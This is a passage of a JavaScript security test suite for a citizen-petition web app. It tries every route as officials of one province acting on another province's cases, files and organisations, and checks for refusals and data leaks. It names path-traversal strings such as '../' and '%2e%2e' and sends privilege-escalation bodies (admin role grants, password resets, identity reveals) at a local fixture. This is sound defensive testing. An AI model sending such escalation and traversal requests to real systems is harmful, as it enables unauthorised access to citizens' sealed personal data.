// table.test.mjs — the security suite's route table: every route of
// src/web/routes.def (and the .def files it #includes), parsed at run time
// so that a new row is covered without touching this file, tried by every
// role of one area against the objects of another, plus the request-level
// attacks the issue lists.
//
// Areas (demo fixture, `danvan demo --cases 400`):
//   HN  Hà Nội: ha-noi.{admin,leader,massmob,editor,reception,handler},
//       c00004.{reception,admin} (Phường Ba Đình); objects of commune 00004
//       and of the province (p01-*).
//   HP  Hải Phòng: hai-phong.*, c10507.*; objects of commune 10507 and p31-*.
//   C8  commune 00008 of Hà Nội (and Hà Nội's province-level objects), for
//       the commune boundary inside one province.
// Directions tried: HN → HP, HP → HN, c00004.* → C8, and anonymous → HP.
// Objects: a petition sent through the public form, a denunciation with a
// sealed identity registered through the API, an existing case of the
// province from the fixture, a private and a public attachment, three
// organisations, three users, the commune, and (when the build has the
// newsroom) a draft article by the province's editor with a figure and its
// revision; each area's petition, org name, article and citizen carry a
// unique marker string, so any response that shows them reveals the other
// area's data.  A '*' whose segment this file does not know (SEGMENT_KINDS)
// is still tried, with every kind of id, and listed in the output.
//
// For each route with a capability, each method (GET HEAD POST PUT PATCH
// DELETE), each object binding of its '*' segments (and of body fields that
// name objects: org_id, parent_id, unit_code, user_id, other, …), each mode
// (session with a valid CSRF token; bearer token on R_JSON rows), the
// answer must be a refusal: 400/401/403/404/405/413, or for the anonymous
// visitor a 303 to /login (401 on the API).  Never 2xx, never 3xx
// elsewhere, never 5xx, never 409 (which would tell that the object
// exists), and no body may contain the other area's markers.  Routes
// without '*' are tried with query parameters and bodies naming the other
// area's objects; there 2xx is the actor's own view and must not show them.
// Afterwards the database must be unchanged except for the actors' own
// sessions, audit entries and cases they registered for their own
// organisation (a digest of every table, row by row).  Then every write
// route is sent by the object's own area WITH the same body and must
// succeed (the bodies are plausible: the refusals above are the scope's),
// and WITHOUT a CSRF token, or with another session's, must be refused.
//
// Public rows (CAP_NONE) are public by design: /units, /regions, /assets;
// /tra-cuu/{code} and /api/v1/track/{code} take the tracking code as the
// key; /gui-don accepts a submission for any commune.  They are fetched
// (no 5xx, no personal data), their writes are left to the checks below,
// and the tracking files are tried across cases (code of one case, file
// of another → 404).
//
// Other checks here: path traversal in /assets/* and attachment downloads,
// header injection through parameters that reach Location, Set-Cookie and
// Content-Disposition, script payloads in every text field of the public
// forms (and where they are shown to staff), malformed bodies → 400,
// oversized → 413, login brute force and enumeration.
//
// Covered elsewhere (not repeated here):
//   tests/http/csrf.test.mjs   CSRF on /account/*, /login, org rename; bearer
//                              tokens do not sign form routes
//   tests/http/login.test.mjs  session fixation, lockout after 5 failures,
//                              logout kills the session, open redirects
//                              through ?next= (11 payloads)
//   tests/http/errors.test.mjs 413 on /login (declared and chunked) and the
//                              API, the cap boundary, invalid UTF-8 and NUL
//                              in query/path/body, unknown body type, 414
//   tests/http/assets.test.mjs ../, %2F, %2e%2e and %00 in /assets/*
//   tests/http/area.test.mjs   org and user scope, page/API/token, lists
//   tests/http/api_cases.test.mjs  a commune's token on another's cases
//   tests/http/units.test.mjs  the search box is escaped
//   tests/security/slowloris.test.mjs  slow clients
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import fs from 'node:fs';
import http from 'node:http';
import net from 'node:net';
import path from 'node:path';
import crypto from 'node:crypto';
import zlib from 'node:zlib';
import {
	ROOT, startServer, fixtureDb, cli, makeToken, sqlite, sqliteValue, sq, extractCsrf, parseForms,
	vnIsoDate, DEMO_PASSWORD, SLOW,
} from '../http/lib/server.mjs';

// ==== the route table ===========================================================

const FLAG_NAMES = ['R_CSRF', 'R_JSON', 'R_NOTX', 'R_MULTIPART', 'R_PUBLIC_CACHE', 'R_SECRET_PATH', 'R_RAW_BODY', 'R_RATE_LIMIT', 'R_PRIVATE_CACHE'];

/** Every ROUTE(...) row of a .def file, following #include "x.def". */
export function parseRoutes(file, seen = new Set()) {
	if (seen.has(file)) return [];
	seen.add(file);
	let text = fs.readFileSync(file, 'utf8');
	text = stripComments(text);
	const out = [];
	const re = /#\s*include\s+"([^"]+)"|\bROUTE\s*\(/g;
	let m;
	while ((m = re.exec(text))) {
		if (m[1]) {
			out.push(...parseRoutes(path.join(path.dirname(file), m[1]), seen));
			continue;
		}
		let depth = 1, i = re.lastIndex, inStr = false;
		const start = i;
		for (; i < text.length && depth; i++) {
			const ch = text[i];
			if (inStr) { if (ch === '\\') i++; else if (ch === '"') inStr = false; continue; }
			if (ch === '"') inStr = true;
			else if (ch === '(') depth++;
			else if (ch === ')') depth--;
		}
		const args = splitArgs(text.slice(start, i - 1));
		assert.equal(args.length, 6, `ROUTE with ${args.length} arguments in ${file}: ${text.slice(start, i)}`);
		const methods = args[0].split('|').map((s) => s.trim().replace(/^M_/, ''));
		const pattern = JSON.parse(args[1]);
		const flags = args[4].split('|').map((s) => s.trim()).filter((s) => s && s !== '0');
		for (const f of flags) assert.ok(FLAG_NAMES.includes(f), `unknown flag ${f} in ${file}`);
		const bodyCap = args[5].trim() === '0' ? 16 * 1024 : evalInt(args[5]);
		out.push({ methods, pattern, handler: args[2].trim(), cap: args[3].trim(), flags: new Set(flags), bodyCap, file: path.basename(file) });
		re.lastIndex = i;
	}
	return out;
}

/* C comments out, string literals kept ("/assets/*" holds a comment opener). */
function stripComments(t) {
	let out = '';
	for (let i = 0; i < t.length; i++) {
		if (t[i] === '"') {
			const j = i;
			for (i++; i < t.length && t[i] !== '"'; i++) if (t[i] === '\\') i++;
			out += t.slice(j, i + 1);
		} else if (t.startsWith('/*', i)) {
			const e = t.indexOf('*/', i + 2);
			i = e < 0 ? t.length : e + 1;
			out += ' ';
		} else if (t.startsWith('//', i)) {
			const e = t.indexOf('\n', i);
			i = e < 0 ? t.length : e - 1;
		} else out += t[i];
	}
	return out;
}

function splitArgs(s) {
	const out = [];
	let depth = 0, cur = '', inStr = false;
	for (let i = 0; i < s.length; i++) {
		const ch = s[i];
		if (inStr) { cur += ch; if (ch === '\\') cur += s[++i]; else if (ch === '"') inStr = false; continue; }
		if (ch === '"') inStr = true;
		if (ch === '(') depth++;
		if (ch === ')') depth--;
		if (ch === ',' && depth === 0) { out.push(cur.trim()); cur = ''; continue; }
		cur += ch;
	}
	if (cur.trim()) out.push(cur.trim());
	return out;
}

function evalInt(expr) {
	assert.match(expr, /^[\d\s*+()]+$/, `body cap ${expr}`);
	return Function(`return (${expr});`)();
}

const ROUTES = parseRoutes(path.join(ROOT, 'src/web/routes.def'));
const ALL_METHODS = ['GET', 'HEAD', 'POST', 'PUT', 'PATCH', 'DELETE'];
const isPublic = (rt) => rt.cap === 'CAP_NONE';

/* Patterns in table order, each with the union of its rows' methods. */
function patterns() {
	const by = new Map();
	for (const rt of ROUTES) {
		if (!by.has(rt.pattern)) by.set(rt.pattern, { pattern: rt.pattern, rows: [] });
		by.get(rt.pattern).rows.push(rt);
	}
	return [...by.values()];
}

/* The row that answers METHOD on a pattern (HEAD rides on GET rows). */
const rowFor = (p, method) => p.rows.find((rt) => rt.methods.includes(method));

/* What a '*' stands for, from the segment before it. */
const SEGMENT_KINDS = {
	users: 'user', orgs: 'org', cases: 'case', attachments: 'file', tep: 'pubfile', units: 'unit',
	regions: 'region', assets: 'asset', 'tra-cuu': 'code', track: 'code',
	newsroom: 'article', revisions: 'revision', images: 'image', anh: 'image', tin: 'slug', 'chuyen-muc': 'category',
	moderation: 'feedback', receptions: 'reception',
};
function starKinds(pattern) {
	const segs = pattern.split('/');
	const kinds = [];
	for (let i = 0; i < segs.length; i++)
		if (segs[i] === '*') kinds.push(SEGMENT_KINDS[segs[i - 1]] || 'unknown');
	return kinds;
}

// ==== a small HTTP client (keep-alive, source address, raw bodies) ================

const agents = new Map();
function agentFor(localAddress) {
	const k = localAddress || '';
	if (!agents.has(k)) agents.set(k, new http.Agent({ keepAlive: true, maxSockets: 8, localAddress }));
	return agents.get(k);
}

class Res {
	constructor(status, headers, raw, body) { this.status = status; this.headers = headers; this.raw = raw; this.body = body; }
	get text() { return this.body.toString('utf8'); }
	get location() { return this.headers.location; }
	json() { return JSON.parse(this.text); }
}

let BASE; // http://127.0.0.1:port

class Browser {
	constructor(name = 'anonymous', { localAddress } = {}) {
		this.name = name;
		this.cookies = new Map();
		this.csrf = undefined;
		this.localAddress = localAddress;
		this.token = undefined;
	}

	request(method, p, opts = {}) {
		const headers = { ...(opts.headers || {}) };
		let body = opts.body;
		if (opts.form) {
			body = encodeForm(opts.form);
			headers['Content-Type'] ??= 'application/x-www-form-urlencoded';
		} else if (opts.json !== undefined) {
			body = typeof opts.json === 'string' ? opts.json : JSON.stringify(opts.json);
			headers['Content-Type'] ??= 'application/json';
		} else if (opts.multipart) {
			const mp = multipart(opts.multipart);
			body = mp.body;
			headers['Content-Type'] ??= mp.type;
		}
		if (opts.bearer) headers.Authorization = `Bearer ${opts.bearer}`;
		if (this.cookies.size && !opts.noCookies && !('Cookie' in headers))
			headers.Cookie = [...this.cookies].map(([k, v]) => `${k}=${v}`).join('; ');
		if (body !== undefined) headers['Content-Length'] = Buffer.byteLength(body);
		const u = new URL(BASE);
		return new Promise((resolve, reject) => {
			const req = http.request({
				host: u.hostname, port: u.port, method, path: p, headers,
				agent: agentFor(this.localAddress), timeout: 30000 * SLOW,
			}, (res) => {
				const chunks = [];
				res.on('data', (c) => chunks.push(c));
				res.on('error', reject);
				res.on('end', () => {
					for (const sc of res.headers['set-cookie'] || []) this.#store(sc);
					resolve(new Res(res.statusCode, res.headers, res.rawHeaders, Buffer.concat(chunks)));
				});
			});
			req.on('timeout', () => req.destroy(new Error(`timeout: ${method} ${p}`)));
			req.on('error', reject);
			req.end(body);
		});
	}

	get(p, o) { return this.request('GET', p, o); }
	post(p, o) { return this.request('POST', p, o); }

	async page(p) {
		const res = await this.get(p);
		const t = extractCsrf(res.text);
		if (t) this.csrf = t;
		return res;
	}

	async login(login, password = DEMO_PASSWORD) {
		await this.page('/login');
		const res = await this.post('/login', { form: { csrf: this.csrf, login, password } });
		if (res.status === 303) { this.csrf = undefined; await this.page('/'); }
		return res;
	}

	#store(sc) {
		const [pair, ...attrs] = sc.split(';');
		const eq = pair.indexOf('=');
		if (eq < 0) return;
		const name = pair.slice(0, eq).trim(), value = pair.slice(eq + 1).trim();
		const maxAge = attrs.map((a) => a.trim()).find((a) => /^max-age=/i.test(a));
		if (value === '' || (maxAge && Number(maxAge.split('=')[1]) <= 0)) this.cookies.delete(name);
		else this.cookies.set(name, value);
	}
}

/* URLSearchParams, with arrays as repeated fields. */
function encodeForm(obj) {
	const p = new URLSearchParams();
	for (const [k, v] of Object.entries(obj)) {
		if (v === undefined) continue;
		for (const x of [].concat(v)) p.append(k, String(x));
	}
	return p.toString();
}

/* multipart/form-data: {field: value | [values] | {filename, data, type}} */
function multipart(fields) {
	const boundary = `----danvansec${crypto.randomBytes(8).toString('hex')}`;
	const parts = [];
	for (const [k, v] of Object.entries(fields)) {
		if (v === undefined) continue;
		for (const x of [].concat(v)) {
			if (x && typeof x === 'object' && 'data' in x) {
				parts.push(Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="${k}"; filename="${x.filename}"\r\n` +
					`Content-Type: ${x.type || 'application/octet-stream'}\r\n\r\n`));
				parts.push(Buffer.from(x.data));
				parts.push(Buffer.from('\r\n'));
			} else {
				parts.push(Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="${k}"\r\n\r\n${x}\r\n`));
			}
		}
	}
	parts.push(Buffer.from(`--${boundary}--\r\n`));
	return { body: Buffer.concat(parts), type: `multipart/form-data; boundary=${boundary}` };
}

/* A raw exchange on a fresh socket: for what node's client refuses to send. */
function rawRequest(text, { timeout = 10000 * SLOW } = {}) {
	const u = new URL(BASE);
	return new Promise((resolve) => {
		const sock = net.connect(Number(u.port), u.hostname);
		const chunks = [];
		let done = false;
		const finish = () => { if (done) return; done = true; sock.destroy(); resolve(Buffer.concat(chunks).toString('latin1')); };
		sock.setTimeout(timeout, finish);
		sock.on('data', (d) => { chunks.push(d); if (/\r\n\r\n/.test(Buffer.concat(chunks).toString('latin1'))) setTimeout(finish, 100); });
		sock.on('error', finish);
		sock.on('close', finish);
		sock.write(text);
	});
}

// ==== the fixture's areas and their objects =======================================

const PNG = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==', 'base64');
const PDF = Buffer.from('%PDF-1.4\n% danvan security suite\n1 0 obj << >> endobj\ntrailer << >>\n%%EOF\n');
const today = vnIsoDate();
let srv, vaultKey;
const AREAS = {};
const users = new Map(); // login → {id, org_id, browser, token}

const q1 = (sql) => sqliteValue(srv.db, sql);
const qall = (sql) => sqlite(srv.db, sql);

/* A province by its name; its communes in force by code. */
function provinceUnit(name) {
	return Number(q1(`SELECT id FROM unit WHERE level = 'province' AND valid_to IS NULL AND name = ${sq(name)}`));
}
function communeUnit(code) {
	return Number(q1(`SELECT id FROM unit WHERE level = 'commune' AND valid_to IS NULL AND code = ${sq(code)}`));
}
/* SQL: the organisations of a province (its own and its communes'). */
const provinceOrgs = (name) => `SELECT o.id FROM org o JOIN unit u ON u.id = o.unit_id WHERE u.id = ${provinceUnit(name)} OR u.province_id = ${provinceUnit(name)}`;
const orgByCode = (code) => Number(q1(`SELECT id FROM org WHERE code = ${sq(code)}`));
const userId = (login) => Number(q1(`SELECT id FROM user WHERE login = ${sq(login)}`));

async function actor(login) {
	if (users.has(login)) return users.get(login);
	const b = new Browser(login);
	const res = await b.login(login);
	assert.equal(res.status, 303, `login ${login}: ${res.status}`);
	const u = { login, id: userId(login), org: Number(q1(`SELECT org_id FROM user WHERE login = ${sq(login)}`)), browser: b };
	u.token = await makeToken(srv.db, login);
	users.set(login, u);
	return u;
}

/* One area: its people, and objects created or picked for it. */
async function buildArea(key, spec) {
	const A = { key, ...spec, marker: `SECMARK${key}${crypto.randomBytes(3).toString('hex')}` };
	A.communeId = communeUnit(spec.commune);
	A.provinceId = provinceUnit(spec.province);
	const rec = await actor(spec.reception);
	const hand = await actor(spec.handler);
	const adm = await actor(spec.admin);

	/* a petition through the public form, from its own source address */
	const citizen = new Browser(`citizen-${key}`, { localAddress: spec.citizenIp });
	await citizen.page('/gui-don');
	assert.ok(citizen.csrf, 'no csrf on /gui-don');
	/* the other areas register a case with the same words but no marker,
	 * so that duplicate suggestions would pair it with this one */
	A.titleBase = 'Kiến nghị sửa chữa tuyến đường liên thôn bị xuống cấp';
	A.contentBase = 'Tuyến đường liên thôn xuống cấp nặng, nhiều ổ gà sâu, mùa mưa ngập nước, học sinh đi lại rất khó khăn. Đề nghị đưa vào kế hoạch sửa chữa sớm.';
	A.title = `${A.titleBase} ${A.marker}`;
	const content = `${A.contentBase} ${A.marker}`;
	let res = await citizen.post('/gui-don', {
		multipart: {
			csrf: citizen.csrf, kind: 'petition', title: A.title, content, name: `Nguyễn Văn ${A.marker}`,
			address: `Số 1 phố ${A.marker}`, phone: '0912345678', commune: spec.commune, signed: '1',
		},
	});
	assert.equal(res.status, 303, `public submission in ${key}: ${res.status} ${res.text.slice(0, 400)}`);
	A.petitionCode = /^\/tra-cuu\/([^?]+)/.exec(res.location)[1];
	await citizen.get(res.location); /* the tracking page waits for the case to be built */
	A.petition = Number(q1(`SELECT id FROM cases WHERE code = ${sq(A.petitionCode)}`));

	/* a denunciation with a sealed identity, through the API */
	res = await rec.browser.post('/api/v1/cases', {
		bearer: rec.token, noCookies: true,
		json: {
			kind: 'denunciation', channel: 'desk', received_on: today, unit: spec.commune,
			title: `Tố cáo cán bộ địa chính ${A.marker}`, content: `Nội dung tố cáo ${A.marker}`,
			citizen: { name: `Trần Thị ${A.marker}`, address: `Thôn ${A.marker}`, phone: '0987654321' }, signed: true,
		},
	});
	assert.equal(res.status, 201, `API denunciation in ${key}: ${res.text}`);
	A.denunciation = res.json().id;
	A.denunciationCode = res.json().code;
	assert.equal(q1(`SELECT identity_sealed IS NOT NULL FROM cases WHERE id = ${A.denunciation}`), '1', 'identity not sealed');

	/* a private and a public file on the petition */
	res = await rec.browser.post(`/api/v1/cases/${A.petition}/attachments?name=${encodeURIComponent(`rieng-${A.marker}.pdf`)}`, {
		bearer: rec.token, noCookies: true, body: PDF, headers: { 'Content-Type': 'application/octet-stream' },
	});
	assert.equal(res.status, 201, `private upload in ${key}: ${res.text}`);
	A.privateFile = res.json().id ?? res.json().items?.[0]?.id ?? Number(q1(`SELECT max(id) FROM case_attachment WHERE case_id = ${A.petition}`));
	res = await hand.browser.post(`/api/v1/cases/${A.petition}/attachments?public=1&name=${encodeURIComponent(`cong-khai-${A.marker}.pdf`)}`, {
		bearer: hand.token, noCookies: true, body: PDF, headers: { 'Content-Type': 'application/octet-stream' },
	});
	assert.equal(res.status, 201, `public upload in ${key}: ${res.text}`);
	A.publicFile = Number(q1(`SELECT max(id) FROM case_attachment WHERE case_id = ${A.petition}`));
	assert.equal(q1(`SELECT public FROM case_attachment WHERE id = ${A.publicFile}`), '1');

	/* the commune's People's Committee carries the marker in its name */
	A.orgs = [orgByCode(`c${spec.commune}-pc`), orgByCode(`c${spec.commune}-party`), orgByCode(`p${spec.pcode}-massmob`)];
	res = await adm.browser.post(`/api/v1/orgs/${A.orgs[0]}/rename`, {
		bearer: adm.token, noCookies: true, json: { name: `Ủy ban nhân dân ${A.marker}`, short_name: 'UBND', valid_from: today },
	});
	assert.equal(res.status, 200, `rename in ${key}: ${res.text}`);

	/* a draft article by the province's editor, with a figure (the newsroom) */
	if (ROUTES.some((rt) => rt.pattern === '/newsroom') && !spec.outsideCommune) {
		const ed = await actor(`${spec.slug}.editor`);
		A.category = Number(q1('SELECT id FROM category ORDER BY id LIMIT 1'));
		A.categorySlug = q1('SELECT slug FROM category ORDER BY id LIMIT 1');
		await ed.browser.page('/newsroom/new');
		res = await ed.browser.post('/newsroom', { form: { csrf: ed.browser.csrf, title: `Bài viết ${A.marker}`, lead: `Tóm tắt ${A.marker}`, body: `Nội dung ${A.marker}`, author: 'Phóng viên', tags: '', slug: `bai-${A.marker.toLowerCase()}`, category: A.category } });
		const m = /^\/newsroom\/(\d+)/.exec(res.location || '');
		if (res.status === 303 && m) {
			A.article = Number(m[1]);
			A.articleSlug = q1(`SELECT slug FROM article WHERE id = ${A.article}`);
			A.revision = Number(q1(`SELECT max(id) FROM article_revision WHERE article_id = ${A.article}`)) || 1;
			res = await ed.browser.post(`/newsroom/${A.article}/images`, { multipart: { csrf: ed.browser.csrf, image: { filename: 'anh.png', data: PNG, type: 'image/png' }, alt: 'Ảnh', caption: 'Chú thích' } });
			A.image = Number(q1(`SELECT max(id) FROM image WHERE article_id = ${A.article}`)) || 0;
			if (!A.image) console.log(`# no figure in ${key}'s article (${res.status}): /newsroom/*/images/* tried with a missing id`);
		} else {
			console.log(`# no article in ${key} (POST /newsroom → ${res.status}): the newsroom's rows are tried with other ids`);
		}
	}
	/* a coming reception of the province's People's Committee, added by its leader's office */
	if (ROUTES.some((rt) => rt.pattern === '/receptions') && !spec.outsideCommune) {
		const lead = await actor(`${spec.slug}.leader`);
		await lead.browser.page('/receptions');
		const d = new Date(Date.now() + 10 * 86400000).toISOString().slice(0, 10);
		res = await lead.browser.post('/receptions', { form: { csrf: lead.browser.csrf, org: String(orgByCode(`p${spec.pcode}-pc`)), day: d, start: '08:00', kind: 'regular', host: `Lãnh đạo ${A.marker}`, place: `Trụ sở ${A.marker}` } });
		assert.equal(res.status, 303, `reception in ${key}: ${res.status} ${res.text.slice(0, 200)}`);
		A.receptions = [Number(q1(`SELECT max(id) FROM reception`))];
	}
	/* readers' feedback on the province's articles (pending first): what the moderation routes act on */
	A.feedback = qall(`SELECT f.id FROM feedback f JOIN article a ON a.id = f.article_id JOIN org o ON o.id = a.org_id
		JOIN unit u ON u.id = o.unit_id WHERE u.id = ${A.provinceId} OR u.province_id = ${A.provinceId}
		ORDER BY f.status <> 'pending', f.id LIMIT 3`).map((r) => Number(r[0]));
	if (!A.feedback.length) console.log(`# no feedback in ${key}: /moderation/* tried with other ids`);
	A.users = [userId(`c${spec.commune}.reception`), userId(`c${spec.commune}.admin`), userId(`${spec.slug}.handler`)];
	A.userLogins = [`c${spec.commune}.reception`, `c${spec.commune}.admin`, `${spec.slug}.handler`];
	/* the area's cases that the attackers' organisations neither received nor answer for */
	const province = `c.unit_id IN (SELECT id FROM unit WHERE province_id = ${A.provinceId} OR id = ${A.provinceId})`;
	const scopeSql = spec.outsideCommune ? `${province} AND c.unit_id != ${communeUnit(spec.outsideCommune)}` : province;
	const theirs = spec.attackerOrgs;
	const notTheirs = `coalesce(c.receiving_org_id, 0) NOT IN (${theirs}) AND coalesce(c.responsible_org_id, 0) NOT IN (${theirs})
		AND NOT EXISTS (SELECT 1 FROM case_monitor m WHERE m.case_id = c.id AND m.org_id IN (${theirs}))`;
	/* an existing case of the fixture, open if there is one */
	A.existing = Number(q1(`SELECT c.id FROM cases c WHERE ${scopeSql} AND ${notTheirs} AND c.id NOT IN (${A.petition}, ${A.denunciation})
		ORDER BY c.status IN ('closed', 'archived'), c.status = 'verifying' DESC, c.id LIMIT 1`));
	assert.ok(A.existing, `no fixture case in ${key}`);
	A.cases = [A.petition, A.denunciation, A.existing];
	A.caseCodes = qall(`SELECT code FROM cases c WHERE ${scopeSql} AND ${notTheirs}`).map((r) => r[0]);
	A.files = [[A.petition, A.privateFile], [A.petition, A.publicFile]];
	return A;
}

const htmlEsc = (v) => v.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;').replace(/'/g, '&#39;');

/* The values a request carries in its query string. */
function sentValues(url) {
	const q = url.indexOf('?');
	if (q < 0) return [];
	try { return [...new URLSearchParams(url.slice(q + 1)).values()]; } catch { return []; }
}

// ==== judging answers =================================================================

const stats = { routes: 0, patterns: 0, actors: 0, tried: 0, refused: 0, loginRedirect: 0, ownView: 0, publicOk: 0, ownCreate: 0, skipped: [], violations: [] };
const REFUSALS = new Set([400, 401, 403, 404, 405, 413]);

/* The audit log names who tried what on the reader's own objects (a
 * refused reveal is recorded in the case's area): there an outsider's
 * login is the record, not a leak, so logins are not looked for. */
function markersOf(T, url = '') {
	return [T.marker, ...T.caseCodes, T.petitionCode, T.denunciationCode, ...(url.startsWith('/admin/audit') ? [] : T.userLogins)];
}

/* The text of an answer; an XLSX (a zip) is unpacked. */
function textOf(res) {
	const type = res.headers['content-type'] || '';
	if (!/spreadsheetml|zip/.test(type)) return res.text;
	const b = res.body, out = [];
	for (let i = 0; i + 30 <= b.length;) {
		if (b.readUInt32LE(i) !== 0x04034b50) break;
		const method = b.readUInt16LE(i + 8), size = b.readUInt32LE(i + 18), flags = b.readUInt16LE(i + 6);
		const nlen = b.readUInt16LE(i + 26), xlen = b.readUInt16LE(i + 28);
		const start = i + 30 + nlen + xlen;
		if (flags & 8) { out.push(b.subarray(start).toString('latin1')); break; } /* sizes after the data: give up on the rest */
		const data = b.subarray(start, start + size);
		try { out.push(method === 8 ? zlib.inflateRawSync(data).toString('utf8') : data.toString('utf8')); } catch { out.push(''); }
		i = start + size;
	}
	return out.join('\n');
}

/* Does the answer show T's markers?  What the request itself sent (a
 * search box keeps its text) is taken out first. */
function leakIn(res, T, sent = [], url = '') {
	let text = textOf(res);
	for (const v of sent) {
		if (!v || v.length < 6) continue;
		text = text.split(v).join('').split(htmlEsc(v)).join('');
	}
	for (const m of markersOf(T, url))
		if (m && text.includes(m)) return m;
	return null;
}

function violation(ctx, why, res) {
	stats.violations.push({
		group: `${ctx.method} ${ctx.pattern || ctx.url} → ${res ? res.status : '—'}: ${why}`,
		example: `${ctx.actor} (${ctx.mode}) ${ctx.method} ${ctx.url}${ctx.note ? ` [${ctx.note}]` : ''}` +
			(res && res.location ? ` → Location: ${res.location}` : '') +
			(res ? ` — ${textOf(res).replace(/<head>[\s\S]*?<\/header>/, '').replace(/<[^>]+>/g, ' ').replace(/\s+/g, ' ').slice(0, 200)}` : ''),
	});
}

/* Violations grouped by route, status and reason, with one example each. */
function violationReport() {
	const groups = new Map();
	for (const v of stats.violations) {
		if (!groups.has(v.group)) groups.set(v.group, { n: 0, actors: new Set(), example: v.example });
		const g = groups.get(v.group);
		g.n++;
		g.actors.add(v.example.split(' ')[0]);
	}
	return [...groups.entries()].map(([k, g]) => `${k} — ${g.n}× by ${[...g.actors].join(', ')}\n      e.g. ${g.example}`);
}

/* ctx: {actor, mode, method, url, refsOther (the request names another
 * area's object), T (that area), anon, ownCreate(res) → bool} */
function judge(ctx, res) {
	stats.tried++;
	if (res.status >= 500) return violation(ctx, 'server error', res);
	const leak = leakIn(res, ctx.T, sentValues(ctx.url), ctx.url);
	if (leak) return violation(ctx, `shows the other area's data (${leak})`, res);
	if (ctx.methodAllowed === false) {
		if (res.status === 405) { stats.refused++; return; }
		return violation(ctx, 'a method the route does not take was not answered 405', res);
	}
	if (ctx.anon) {
		if (res.status === 303 && /^\/login\?next=/.test(res.location || '')) { stats.loginRedirect++; return; }
		if (res.status === 401 && ctx.json) { stats.refused++; return; }
		if (REFUSALS.has(res.status)) { stats.refused++; return; }
		return violation(ctx, 'anonymous request not sent to the login', res);
	}
	if (res.status === 409) return violation(ctx, '409 tells the object exists (area check after the state check)', res);
	if (REFUSALS.has(res.status)) { stats.refused++; return; }
	if (ctx.ownCreate && (res.status < 400) && ctx.ownCreate(res)) { stats.ownCreate++; return; }
	if (!ctx.refsOther && res.status < 300) { stats.ownView++; return; }
	if (res.status === 303 && /^\/login/.test(res.location || '')) { stats.loginRedirect++; return; }
	return violation(ctx, ctx.refsOther ? 'accepted a request on the other area\'s object' : 'unexpected answer', res);
}

// ==== request bodies ================================================================

const ACTIONS = ['classify', 'accept', 'refuse', 'forward', 'guide', 'file', 'verify', 'extend', 'suspend', 'resume',
	'terminate', 'withdraw', 'decide', 'notify', 'appeal', 'take_effect', 'close', 'archive', 'reopen'];

function actFields(action, T) {
	return {
		action, note: `Ghi chú ${action}`, kind: 'petition', field_code: 'land', area: T.commune,
		reason_code: 'not_competent', forward_to: 'Sở Tài nguyên và Môi trường', outcome: 'upheld',
		doc_number: '12/QĐ-UBND', doc_date: today, responsible_org_id: T.orgs[0],
	};
}

let seq = 0;
/* Bodies for a POST on a pattern, naming T's objects.  Each: {kind:
 * 'form'|'json'|'multipart'|'raw', data, query?, note}. */
function bodiesFor(pattern, T, { json, own = T } = {}) {
	const n = ++seq;
	switch (pattern) {
	case '/admin/users':
		return [{ kind: 'form', data: { login: `sec-user-${n}`, name: 'Người thử', email: '', org_id: T.orgs[0], password: 'Mat-khau-an-toan-123', role: ['reception'] }, note: 'org_id of the other area' }];
	case '/admin/users/*/roles':
		return [{ kind: 'form', data: { role: ['admin', 'handler'] } }];
	case '/admin/users/*/disable':
	case '/admin/users/*/enable':
		return [{ kind: 'form', data: {} }];
	case '/admin/users/*/password':
		return [{ kind: 'form', data: { password: 'Chiem-quyen-12345678' } }];
	case '/admin/orgs':
		return [
			{ kind: 'form', data: { code: `sec-org-${n}`, name: 'Tổ chức thử', short_name: '', kind: 'peoples_committee', unit_code: T.commune, valid_from: today }, note: 'unit_code of the other area' },
			{ kind: 'form', data: { code: `sec-org-${n}b`, name: 'Tổ chức thử', short_name: '', kind: 'peoples_committee', parent_id: T.orgs[0], unit_code: own.commune, valid_from: today }, note: 'parent_id of the other area' },
		];
	case '/admin/orgs/*/rename':
		return [{ kind: 'form', data: { name: `Chiếm quyền ${n}`, short_name: 'X', valid_from: today } }];
	case '/api/v1/orgs/*/rename':
		return [{ kind: 'json', data: { name: `Chiếm quyền API ${n}`, short_name: 'X', valid_from: today } }];
	case '/cases':
		return [{ kind: 'form', data: { kind: 'petition', channel: 'desk', received_on: today, title: T.titleBase, content: T.contentBase, field_code: 'other', commune: T.commune, name: 'Lê Văn Thử', address: 'Số 2', signed: '1' }, note: 'registered for the other area\'s commune', ownCreate: true }];
	case '/api/v1/cases':
		return [{ kind: 'json', data: { kind: 'petition', channel: 'desk', received_on: today, title: T.titleBase, content: T.contentBase, unit: T.commune, citizen: { name: 'Lê Văn Thử', address: 'Số 2' }, signed: true }, note: 'registered for the other area\'s commune', ownCreate: true }];
	case '/cases/*/act':
		return ACTIONS.map((a) => ({ kind: 'form', data: actFields(a, T), note: a }));
	case '/api/v1/cases/*/transitions':
		return [...ACTIONS, 'note', 'reply', 'assign'].map((a) => {
			/* the API takes only its own members (unknown ones are a 400) */
			const { field_code: _f, area: _a, ...rest } = actFields(a, T);
			return { kind: 'json', data: { ...rest, field: 'land', unit: T.commune, user_id: T.users[2] }, note: a };
		});
	case '/cases/*/reply':
	case '/cases/*/note':
		return [{ kind: 'form', data: { text: `Chiếm quyền ${n}` } }];
	case '/cases/*/assign':
		return [{ kind: 'form', data: { user_id: T.users[2] } }];
	case '/cases/*/split':
		return [{ kind: 'form', data: { kind: 'complaint', title: 'Tách thử', content: 'Nội dung tách thử' } }];
	case '/cases/*/link':
		return [{ kind: 'form', data: { other: T.existing, kind: 'duplicate', confirm: '1' } }, { kind: 'form', data: { other: T.existing, kind: 'duplicate', confirm: '0' }, note: 'dismiss' }];
	case '/cases/*/reveal':
		return [{ kind: 'form', data: { secret: vaultKey } }];
	case '/cases/*/attachments':
		return [{ kind: 'multipart', data: { files: { filename: `chiem-${n}.pdf`, data: PDF, type: 'application/pdf' }, public: '1' } }];
	case '/api/v1/cases/*/attachments':
		return [
			{ kind: 'raw', data: PDF, query: `?name=chiem-${n}.pdf`, note: 'raw' },
			{ kind: 'multipart', data: { file: { filename: `chiem-${n}m.pdf`, data: PDF, type: 'application/pdf' } }, note: 'multipart' },
		];
	case '/newsroom/*/save':
